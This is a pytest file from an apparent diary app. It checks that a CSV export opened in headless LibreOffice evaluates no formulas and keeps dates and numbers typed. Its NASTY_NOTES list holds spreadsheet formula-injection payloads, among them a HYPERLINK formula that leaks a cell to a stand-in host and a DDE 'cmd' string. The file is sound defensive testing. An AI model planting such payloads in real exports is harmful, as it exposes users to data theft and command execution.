"""An exported diary opened in a real spreadsheet (LibreOffice, headless) runs no formula, while dates, times
and numbers stay dates, times and numbers."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from calfdesk.domain.diary import make_entry
from calfdesk.storage import diary_store
from calfdesk.storage.database import open_database
from tests.reliability import run_cli

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
# Comma-separated, double quotes, UTF-8, from line 1, default language, quoted text stays text = false,
# detect special numbers = true: the settings under which a spreadsheet is most eager to interpret cells.
CSV_FILTER = "CSV:44,34,76,1,,0,false,true"

NASTY_NOTES = [
    "=1+2",
    '=HYPERLINK("https://example.invalid/?leak="&A1;"click")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+2",
    "''=cmd|' /C calc'!A0",
    "42",
    'plain note, with a comma and "quotes"',
]

pytestmark = pytest.mark.slow


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("LibreOffice (soffice) is not installed; .ci/run installs libreoffice-calc-nogui")
    return found


def to_ods(csv_path: Path, profile: Path) -> ElementTree.Element:
    out = csv_path.parent / "ods"
    subprocess.run(
        [
            soffice(),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            f"--infilter={CSV_FILTER}",
            "--convert-to",
            "ods",
            "--outdir",
            str(out),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    with zipfile.ZipFile(out / (csv_path.stem + ".ods")) as ods:
        return ElementTree.fromstring(ods.read("content.xml"))


def cells_by_row(root: ElementTree.Element) -> list[list[ElementTree.Element]]:
    rows = []
    for row in root.iter(f"{{{TABLE}}}table-row"):
        cells: list[ElementTree.Element] = []
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells.extend([cell] * min(repeat, 50))
        rows.append(cells)
    return rows


def value_type(cell: ElementTree.Element) -> str | None:
    return cell.get(f"{{{OFFICE}}}value-type")


def formulas(root: ElementTree.Element) -> list[str]:
    return [cell.get(f"{{{TABLE}}}formula", "") for cell in root.iter() if cell.get(f"{{{TABLE}}}formula")]


def test_exported_diary_has_no_formula_and_keeps_numbers(data_dir: Path, tmp_path: Path) -> None:
    entries = [
        make_entry(
            local_date=dt.date(2026, 3, 1) + dt.timedelta(days=index),
            local_time=dt.time(7, 30),
            soreness=index % 11,
            stiffness_min=index * 5,
            notes=note,
            utc_offset_min=-300 if index % 2 else 60,
        )
        for index, note in enumerate(NASTY_NOTES)
    ]
    db = open_database(data_dir)
    diary_store.add_entries_bulk(db, entries)
    db.close()
    exported = tmp_path / "diary.csv"
    assert run_cli(data_dir, "export", "--csv", str(exported)).returncode == 0

    root = to_ods(exported, tmp_path / "profile")

    assert formulas(root) == []
    rows = cells_by_row(root)
    header = ["".join(cell.itertext()) for cell in rows[0]]
    column = {name: header.index(name) for name in ("date", "time", "soreness", "stiffness_min", "notes")}
    column["utc_offset_min"] = header.index("utc_offset_min")
    data_rows = [row for row in rows[1:] if any("".join(c.itertext()) for c in row)]
    assert len(data_rows) == len(NASTY_NOTES)
    for row, entry in zip(data_rows, entries, strict=True):
        assert value_type(row[column["date"]]) == "date"
        assert row[column["date"]].get(f"{{{OFFICE}}}date-value", "").startswith(entry.local_date.isoformat())
        assert value_type(row[column["time"]]) == "time"
        for name, expected in (
            ("soreness", entry.soreness),
            ("stiffness_min", entry.stiffness_min),
            ("utc_offset_min", entry.utc_offset_min),
        ):
            assert value_type(row[column[name]]) == "float", name
            assert float(row[column[name]].get(f"{{{OFFICE}}}value", "nan")) == expected
        notes = row[column["notes"]]
        visible = "".join(notes.itertext())
        if entry.notes.isdigit():
            # A note that is just a number may show as one: harmless, and not a formula.
            assert visible == entry.notes
            continue
        assert value_type(notes) == "string"
        assert entry.notes.strip("\t\r\n")[:6] in visible


def test_the_check_would_notice_an_unprotected_formula(tmp_path: Path) -> None:
    raw = tmp_path / "raw.csv"
    raw.write_text("date,soreness,notes\r\n2026-03-01,3,=1+2\r\n", encoding="utf-8")
    assert formulas(to_ods(raw, tmp_path / "profile")) == ["of:=1+2"]
